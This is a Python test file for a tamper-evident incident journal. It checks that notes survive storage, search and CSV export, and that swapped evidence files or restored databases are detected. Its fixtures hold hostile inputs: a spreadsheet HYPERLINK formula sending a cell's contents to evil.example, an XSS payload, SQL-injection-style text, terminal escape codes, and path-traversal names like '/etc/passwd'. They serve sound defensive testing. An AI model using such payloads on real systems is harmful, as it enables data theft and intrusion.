"""What somebody may write, swap or replace: texts come back as they were said, changes are named."""

from __future__ import annotations

import csv
import io
import re
import shutil
import sqlite3
from contextlib import closing

import pytest

from console.journal.chain import BadBodyError
from console.journal.export import write_csv
from console.journal.history import Correction, history
from console.journal.journal import EntryRefused, EvidenceDraft, Kind, Query
from console.journal.rebuild import rebuild
from console.journal.search import each, find
from console.journal.verify import Fault, FaultKind, verify
from tests.console.journal.conftest import STILL, a_violation, tamper

FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"Click")'
NOTES = {
    "a formula": FORMULA,
    "marks of direction": "от \u202eгеп\u202c до \u200fконца\u200e \u2066x\u2069",
    "a megabyte": "двор " * 60_000 + "x " * 240_000,
    "NUL": "до\x00после",
    "emoji": "драка 👮🏽‍♂️🇰🇿 у входа",
    "controls": "a\x1b[31mb\x07c\r\nd\te\x85f\u2028g",
    "quotes": 'O\'Neil said "no"; drop table entry; -- \\ \\u0000',
    "HTML": "<img src=x onerror=alert(1)><b>двор</b>&amp;",
    "a file address": "file:///etc/passwd \\\\evil\\share",
    "nothing but spaces": " \u00a0\u3000 ",
}


@pytest.fixture(params=NOTES.values(), ids=NOTES)
def note(request):
    return request.param


@pytest.fixture
def noted(journal, folder, note):
    """1 a violation with that note, 2 its amendment, which says it twice."""
    journal.append_now(Kind.VIOLATION_RECORDED, a_violation(note=note), actor="Anna")
    correction = Correction(Kind.VIOLATION_AMENDED, 1, f"why {note}"[:1000], {"persons": 3})
    body = history(folder, 1).corrected(correction)
    journal.append_now(Kind.VIOLATION_AMENDED, body, actor="Anna")
    return folder


def test_a_note_comes_back_as_it_was_said(noted, note):
    (amended, recorded), total = find(noted, Query())
    assert total == 2
    assert recorded.body["note"] == amended.body["note"] == note
    past = history(noted, 1)
    assert past.standing.note == note
    assert past.standing.persons == 3
    assert verify(noted).sound


def test_its_words_are_found_and_its_signs_are_none_of_the_index_s_own(noted, note):
    for word in re.findall(r"[^\W_]+", note)[:20]:
        assert find(noted, Query(words=word))[1] == 2, word
    assert find(noted, Query(words=note[:2000]))[1] == (
        2 if re.search(r"[^\W_]", note) or not note.strip() else 0
    )
    before = [row.seq for row in find(noted, Query(words="школа"))[0]]
    rebuild(noted)
    assert [row.seq for row in find(noted, Query(words="школа"))[0]] == before == [2, 1]


def test_in_a_table_it_is_one_cell_and_no_formula(noted, note, tmp_path):
    write_csv(each(noted, Query()), tmp_path / "out.csv", demo=False)
    csv.field_size_limit(2 << 20)
    text = (tmp_path / "out.csv").read_bytes().decode("utf-8-sig")
    assert "\0" not in text, "a program that reads the table ends there"
    titles, *rows = csv.reader(io.StringIO(text, newline=""))
    assert len(rows) == 2
    for row in rows:
        cells = dict(zip(titles, row, strict=True))
        said = note.replace("\0", "\ufffd")
        assert cells["Note"] == (f"'{said}" if said[0] in "=+-@\t\r" else said)
        assert not [cell for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_in_a_terminal_it_is_one_line_that_moves_nothing(noted, munara):
    code, text = munara("search")
    assert code == 0
    lines = text.split("\n")
    assert len(lines) == 4, "two entries, the count, and the end"
    assert all(line.isprintable() for line in lines)


def test_a_note_that_is_too_long_is_refused_and_says_so(journal, folder):
    for long in ("д" * (1 << 20), "\0" * 200_000):
        with pytest.raises(BadBodyError, match="larger than one megabyte"):
            journal.append_now(Kind.VIOLATION_RECORDED, a_violation(note=long), actor="Anna")
    journal.start()
    journal.record(Kind.VIOLATION_RECORDED, a_violation(note="д" * (1 << 20)), actor="Anna", ref="long")
    journal.record(Kind.BULLETIN, {"text": "next"}, actor="Anna", ref="next")
    journal.stop()
    refused, _written = journal._outbox.drain()
    assert isinstance(refused, EntryRefused)
    assert "one megabyte" in refused.why
    assert [row.body["text"] for row in each(folder, Query())] == ["next"]


# --- files and rows ---


@pytest.fixture
def stills(eight):
    """The files of entries 3 and 6."""
    return [row.evidence[0] for row in each(eight, Query()) if row.evidence]


def _name(folder, file):
    return file.relative_to(folder.root).as_posix()


def test_two_pictures_that_changed_places_are_both_named(eight, stills):
    first, second = stills
    other = eight.root / "other"
    first.rename(other)
    second.rename(first)
    other.rename(second)
    assert list(verify(eight).faults) == [
        Fault(3, FaultKind.EVIDENCE_CHANGED, file=_name(eight, first)),
        Fault(6, FaultKind.EVIDENCE_CHANGED, file=_name(eight, second)),
    ]


@pytest.mark.parametrize("content", [b"", STILL, STILL + bytes([4])], ids=["emptied", "shorter", "as long"])
def test_a_picture_replaced_by_another_is_named(eight, stills, content):
    stills[0].write_bytes(content)
    assert list(verify(eight).faults) == [Fault(3, FaultKind.EVIDENCE_CHANGED, file=_name(eight, stills[0]))]


def test_a_folder_in_a_picture_s_place_is_named(eight, stills):
    stills[0].unlink()
    stills[0].mkdir()
    (fault,) = verify(eight).faults
    assert (fault.seq, fault.file) == (3, _name(eight, stills[0]))


def test_an_older_copy_put_back_is_found_by_the_head_on_paper(journal, clock, eight, tmp_path):
    older = tmp_path / "older.db"
    with closing(sqlite3.connect(eight.journal_db)) as database:
        database.execute("vacuum into ?", [str(older)])
    clock.advance(60)
    journal.append_now(Kind.BULLETIN, {"text": "what nobody is to know"}, actor="Anna")
    paper = verify(eight).head
    for path in eight.root.glob("journal.db*"):
        path.unlink()
    shutil.copy(older, eight.journal_db)
    assert verify(eight).sound, "whole in itself: only the paper knows"
    assert list(verify(eight, head=paper).faults) == [Fault(9, FaultKind.TAIL_CUT, until=9)]


def test_swapped_bodies_are_named_in_both_entries(eight):
    tamper(
        eight,
        "create temp table swapped as select seq, body from entry where seq in (4, 6)",
        "update entry set body = (select s.body from swapped s where s.seq = 10 - entry.seq)"
        " where seq in (4, 6)",
    )
    assert list(verify(eight).faults) == [Fault(4, FaultKind.BODY_CHANGED), Fault(6, FaultKind.BODY_CHANGED)]


def test_what_the_search_shows_is_made_from_the_entries_again(eight):
    """The projections carry no proof: whoever changed them changed nothing that counts."""
    with closing(sqlite3.connect(eight.journal_db)) as database, database:
        database.execute("update entry_subject set place = 'nowhere', camera_number = '9'")
        database.execute("delete from entry_search where rowid < 5")
    assert verify(eight).sound
    assert find(eight, Query(words="школа"))[1] == 4
    rebuild(eight)
    rows, total = find(eight, Query(words="школа"))
    assert (total, rows[0].place) == (8, "Школа № 4")


def test_evidence_is_named_by_its_content_whatever_a_draft_is_called(journal, eight):
    before = set(eight.root.iterdir())
    for role in ("../../journal.db", "/etc/passwd", "clip\n"):
        draft = EvidenceDraft(role, ".jpg", b"x" + role.encode())
        entry = journal.append_now(Kind.BULLETIN, {"text": "x"}, actor="Anna", evidence=[draft])
        (item,) = entry.body["evidence"]
        assert re.fullmatch(r"evidence/2026/\d\d/\d\d/[0-9a-f]{64}\.jpg", item["file"])
    for suffix in ("/../x", ".jpg/..", "", ".JPG", ".\0"):
        with pytest.raises(ValueError, match="evidence"):
            EvidenceDraft("still", suffix, b"")
    assert set(eight.root.iterdir()) == before
